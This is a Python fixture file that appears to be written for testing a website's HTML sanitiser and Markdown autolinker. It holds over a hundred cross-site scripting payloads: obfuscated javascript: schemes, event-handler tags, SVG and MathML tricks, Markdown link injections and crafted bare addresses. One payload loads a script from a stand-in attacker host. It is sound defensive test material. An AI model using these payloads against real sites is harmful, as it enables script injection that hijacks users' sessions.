"""Hostile text for every place text enters the site, written for this project.

Built from a few families so that each idea is tried in several shapes: raw tags,
event handlers, script URLs (with invisible characters and entities in the scheme),
SVG and MathML, form tricks, broken and nested tags, Markdown that carries them,
and addresses typed as text, which the site turns into links itself.
"""

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\u200bscript:alert(1)",  # zero-width space
    "java\u00adscript:alert(1)",  # soft hyphen
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "javascript&colon;alert(1)",
    "\ufeffjavascript:alert(1)",
]

RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=# onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<button form=f formaction=javascript:alert(1)>go</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"x\" target=_blank rel=opener>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "<b><i><u><script>alert(1)</script></u></i></b>",
    "<table background=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<a href=\"https://example.org\" onmouseover=\"alert(1)\">ok</a>",
]

MARKDOWN = (
    [f"[click]({scheme})" for scheme in SCHEMES]
    + [f"![image]({scheme})" for scheme in SCHEMES[:6]]
    + [
        "[click](<javascript:alert(1)>)",
        '[click](https://example.org "title" onclick=alert(1))',
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "**<script>alert(1)</script>**",
        "> <img src=x onerror=alert(1)>",
        "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
        "```\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "[a](https://example.org)[b](javascript:alert(1))",
    ]
)

# Bare addresses become links in our own Markdown step, before the sanitiser: each
# tries to carry a quote, a tag or a scheme into the link it makes.
ADDRESSES = [
    'www.example.org"onmouseover="alert(1)',
    "www.example.org&#x22;onclick=alert(1)//",
    'https://example.org/"><script>alert(1)</script>',
    "http://example.org/?q=<img src=x onerror=alert(1)>",
    "www.example.org<svg onload=alert(1)>",
    "www.example.org/javascript:alert(1)",
    "javascript://www.example.org/%0aalert(1)",
    "(javascript:alert(1)) and (www.example.org)",
    "[www.example.org](javascript:alert(1))",
    "**www.example.org**\"onclick=alert(1)//",
    "`www.example.org` <www.example.org onclick=alert(1)>",
    "example.org/\u202e<img src=x onerror=alert(1)>",
]

PAYLOADS = RAW + MARKDOWN + ADDRESSES + [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]

assert len(PAYLOADS) >= 100, len(PAYLOADS)
